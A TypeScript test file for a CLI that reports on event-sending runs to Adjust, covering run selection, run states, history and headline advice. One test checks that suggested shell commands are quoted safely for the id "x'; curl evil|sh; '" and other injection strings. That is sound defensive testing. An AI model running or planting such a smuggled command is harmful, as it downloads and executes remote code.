import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { RunLog } from '../../src/audit/run-log.ts'
import { TerminalError } from '../../src/domain/errors.ts'
import { chooseRun } from '../../src/report/choose-run.ts'
import { renderPage } from '../../src/report/page/page.ts'
import type { Warehouse } from '../../src/warehouse/warehouse.ts'
import { duckdb } from '../warehouse/duckdb-engine.ts'
import { HOUR, type LoggedRun, logRun, MINUTE, RUN, reportOf, SECOND, START } from './logged-run.ts'

const unfinished: LoggedRun = {
  counts: null,
  claimedToMs: START - HOUR,
  rows: [{ transactionId: 't1' }, { transactionId: 't2', status: 'deferred', reason: 'device_not_found' }],
}

async function closed(warehouse: Warehouse, event: 'recovered' | 'lost'): Promise<void> {
  const run = { runId: RUN, shard: '0/1', epoch: 1 }
  await new RunLog(warehouse).closed(run as Parameters<RunLog['closed']>[0], event, START + HOUR)
}

describe('the run that is asked for', () => {
  const others = ['20260301T120000Z-abcdef', '20260301T121500Z-abc123', '20260302T000000Z-ffffff']

  async function someRuns(): Promise<Warehouse> {
    const warehouse = await duckdb.open()
    for (const [index, runId] of others.entries()) {
      const isLast = index === others.length - 1
      await logRun(warehouse, { runId, startedAtMs: START + index * HOUR, counts: isLast ? null : {} })
    }
    return warehouse
  }

  it('is the newest one that ended, when none is named', async () => {
    expect((await chooseRun(await someRuns(), null)).runId).toBe(others[1])
  })

  it.each([
    ['its id', others[2], others[2]],
    ['the beginning of it', '20260301T1215', others[1]],
    ['what stands behind the hyphen', 'ffffff', others[2]],
  ])('is known by %s', async (_name, text, expected) => {
    expect((await chooseRun(await someRuns(), text!)).runId).toBe(expected)
  })

  it.each([
    [
      'an abbreviation of two',
      '20260301',
      'is short for several runs: 20260301T121500Z-abc123, 20260301T120000Z-abcdef',
    ],
    ['a piece from the middle', 'abc', 'has no run "abc"'],
    ['what would be a pattern', '.*', 'has no run ".*"'],
    ['nothing', '', 'has no run ""'],
  ])('is not guessed from %s', async (_name, text, message) => {
    const error = await chooseRun(await someRuns(), text).catch((cause: unknown) => cause)
    expect(error).toBeInstanceOf(TerminalError)
    expect((error as Error).message).toContain(message)
  })

  it('is none, with the command that makes one, before the first run', async () => {
    const error = (await chooseRun(await duckdb.open(), null).catch(
      (cause: unknown) => cause,
    )) as TerminalError
    expect(error.message).toBe('No run has ended yet.')
    expect(error.hint).toContain('adjust-s2s run')
  })
})

describe('a run that did not end', () => {
  it.each([
    ['died', null, false, 'the next run settles what it left'],
    ['running', null, true, 'is at work, or died'],
    ['recovered', 'recovered', false, 'a later run has settled what it left'],
    ['lost', 'lost', false, 'in doubt'],
  ] as const)(
    'is reported as %s, with what the audit table has of it',
    async (state, event, isSending, words) => {
      const warehouse = await duckdb.open()
      await logRun(warehouse, unfinished)
      if (event !== null) await closed(warehouse, event)
      const report = await reportOf(warehouse, { isSending: (runId) => isSending && runId === RUN })
      expect(report.run).toMatchObject({
        state,
        ended_at: null,
        exit_code: null,
        last_seen_at: '2026-03-01T12:00:00.150Z',
      })
      expect(report.counts).toMatchObject({
        read: null,
        adds_up: null,
        counted_by: 'audit_table',
        delivered: 1,
        deferred: 1,
      })
      expect(report.reasons.map(({ reason, events }) => [reason, events])).toEqual([
        ['ok', 1],
        ['device_not_found', 1],
      ])
      expect(report.headline.sentence).toContain(words)
      expect(report.headline.level).not.toBe('good')
      expect(report.open.as_of).toBe(report.generated_at)
    },
  )

  it('that had claimed nothing had sent nothing', async () => {
    const warehouse = await duckdb.open()
    await logRun(warehouse, { counts: null })
    const { headline, run } = await reportOf(warehouse)
    expect(headline.sentence).toBe('The run died before it had sent anything.')
    expect(run.last_seen_at).toBeNull()
  })

  it('says what its own process knows of its end', async () => {
    const warehouse = await duckdb.open()
    await logRun(warehouse, unfinished)
    const failure = { message: 'the disk is full', hint: null, exitCode: 75 }
    const { run, headline } = await reportOf(warehouse, { failure })
    expect(run).toMatchObject({ state: 'failed', exit_code: 75, error: 'the disk is full' })
    expect(headline).toMatchObject({ level: 'bad', sentence: expect.stringContaining('the disk is full') })
  })

  it('but was logged as ended counts as ended, whatever came after that', async () => {
    const warehouse = await duckdb.open()
    await logRun(warehouse)
    const failure = { message: 'closing failed', hint: null, exitCode: 1 }
    expect((await reportOf(warehouse, { failure })).run).toMatchObject({ state: 'ended', exit_code: 0 })
  })
})

describe('the runs around it', () => {
  it('are those of its shard up to itself, the oldest first, and the newer ones apart', async () => {
    const warehouse = await duckdb.open()
    await logRun(warehouse, {
      runId: 'first',
      startedAtMs: START - 2 * HOUR,
      rows: [{ transactionId: 't1' }],
      exitCode: 3,
    })
    await logRun(warehouse, { runId: 'dead', startedAtMs: START - HOUR, counts: null })
    await logRun(warehouse, { runId: 'elsewhere', startedAtMs: START - HOUR, start: { shard: '1/2' } })
    await logRun(warehouse)
    await logRun(warehouse, { runId: 'newer', startedAtMs: START + MINUTE, counts: null })
    const { history, newer_runs } = await reportOf(warehouse)
    expect(history.map(({ run_id, state, read, exit_code }) => [run_id, state, read, exit_code])).toEqual([
      ['first', 'ended', 1, 3],
      ['dead', 'died', null, null],
      [RUN, 'ended', 0, 0],
    ])
    expect(newer_runs).toMatchObject([{ run_id: 'newer', state: 'died' }])
  })

  it('are thirty at most', async () => {
    const warehouse = await duckdb.open()
    for (let index = 40; index > 0; index--)
      await new RunLog(warehouse).started({ ...STARTED, runId: `run-${index}` }, START - index * MINUTE)
    await logRun(warehouse)
    const { history } = await reportOf(warehouse)
    expect([history.length, history[0]?.run_id, history.at(-1)?.run_id]).toEqual([30, 'run-29', RUN])
  })
})

const STARTED = {
  shard: '0/1',
  command: 'adjust-s2s run',
  host: 'h',
  pid: 1,
  version: '0.1.0',
  epoch: 1,
  fromMs: START - HOUR,
  toMs: START,
  isFullWindow: true,
  ageLimitMs: START - HOUR,
  app: null,
  event: null,
  resend: 'none' as const,
}

describe('the headline', () => {
  const waits = { status: 'deferred', reason: 'adjust_unavailable' } as const
  const refused = { status: 'rejected', reason: 'bad_event_state' } as const

  it.each([
    ['all is delivered', 0, [], 'good', 'All is well: 1 of 1 event was delivered.'],
    [
      'some wait',
      0,
      [{ transactionId: 't2', ...waits, reason: 'device_not_found' }],
      'good',
      '1 waits for a later run.',
    ],
    [
      'some are refused',
      0,
      [{ transactionId: 't2', ...refused }],
      'attention',
      '1 does not reach Adjust as things stand',
    ],
    [
      'too many are refused',
      3,
      [{ transactionId: 't2', ...refused }],
      'bad',
      'Too many events were rejected',
    ],
    [
      'the token is wrong',
      4,
      [{ transactionId: 't2', ...waits, reason: 'credentials_refused' }],
      'bad',
      'Adjust refused the credentials',
    ],
    ['Adjust is away', 75, [{ transactionId: 't2', ...waits }], 'attention', 'Adjust could not be reached'],
  ] as const)('when %s', async (_name, exitCode, rows, level, words) => {
    const warehouse = await duckdb.open()
    await logRun(warehouse, { rows: [{ transactionId: 't1' }, ...rows], exitCode })
    const { headline } = await reportOf(warehouse)
    expect(headline.level).toBe(level)
    expect(headline.sentence).toContain(words)
  })

  it('comes with what to do, for the reason of most of them', async () => {
    const warehouse = await duckdb.open()
    const rows = [
      { transactionId: 't1', ...refused },
      { transactionId: 't2', status: 'invalid', reason: 'currency_missing' } as const,
      { transactionId: 't3', status: 'invalid', reason: 'currency_missing' } as const,
      { transactionId: 't4', status: 'in_doubt', reason: 'timed_out' } as const,
    ]
    await logRun(warehouse, { rows })
    const { headline } = await reportOf(warehouse)
    expect(headline.next.map(({ command }) => command)).toEqual([
      'run --resend failed',
      'reconcile --export FILE',
      'explain t4',
      'explain t1',
    ])
    expect(headline.next[0]?.why).toContain('currency_missing')
  })

  it('does not say "most" where it is less than half', async () => {
    const warehouse = await duckdb.open()
    const reasons = ['currency_missing', 'identifier_missing', 'kind_unknown', 'app_token_missing'] as const
    const rows = reasons.map((reason, index) => ({
      transactionId: `t${index}`,
      status: 'invalid' as const,
      reason,
    }))
    await logRun(warehouse, { rows })
    expect((await reportOf(warehouse)).headline.next[0]?.why).toMatch(/ Such as \w+: /)
  })

  it.each(["x'; curl evil|sh; '", '$(touch x) `touch y` "z" \\', '-42', '', `${'a'.repeat(200)} b`])(
    'gives commands that a shell takes as they are meant, for the id %j',
    async (id) => {
      const warehouse = await duckdb.open()
      await logRun(warehouse, { rows: [{ transactionId: id, status: 'in_doubt', reason: 'timed_out' }] })
      const report = await reportOf(warehouse)
      const command = report.headline.next.find((step) => step.command?.startsWith('explain'))!.command!
      const printed = execFileSync('/bin/sh', ['-c', `printf '<%s>' ${command}`], { encoding: 'utf8' })
      expect(printed).toBe(id.startsWith('-') ? `<explain><--><${id}>` : `<explain><${id}>`)
      // On the page, too, nothing is left out.
      const escaped = renderPage(report).match(/<code class="whole">adjust-s2s (explain[^<]*)<\/code>/)?.[1]
      expect(unescaped(escaped!)).toBe(command)
    },
  )
})

function unescaped(text: string): string {
  const entities: Record<string, string> = {
    '&lt;': '<',
    '&gt;': '>',
    '&quot;': '"',
    '&#39;': "'",
    '&amp;': '&',
  }
  return text.replace(/&[#\w]+;/g, (entity) => entities[entity]!)
}

describe('a run that died with a request in flight', () => {
  it('was last seen at work, not when that was found out hours later', async () => {
    const warehouse = await duckdb.open()
    const found = { settledAtMs: START + 9 * HOUR, httpStatus: null, latencyMs: null }
    await logRun(warehouse, {
      ...unfinished,
      rows: [
        { transactionId: 't1' },
        {
          transactionId: 't2',
          ...{ status: 'in_doubt', reason: 'process_died' },
          sentAtMs: START + 2 * SECOND,
          ...found,
        },
        {
          transactionId: 't3',
          ...{ status: 'in_doubt', reason: 'journal_lost' },
          sentAtMs: null,
          ...found,
        },
      ],
    })
    await closed(warehouse, 'recovered')
    const { run, sending } = await reportOf(warehouse, { nowMs: START + 10 * HOUR })
    expect(run.last_seen_at).toBe(new Date(START + 2 * SECOND).toISOString())
    expect(sending).toMatchObject({ span_s: 1, sent: 2, answered: 1, unanswered: 0 })
    expect(sending?.spans).toHaveLength(3)
  })
})
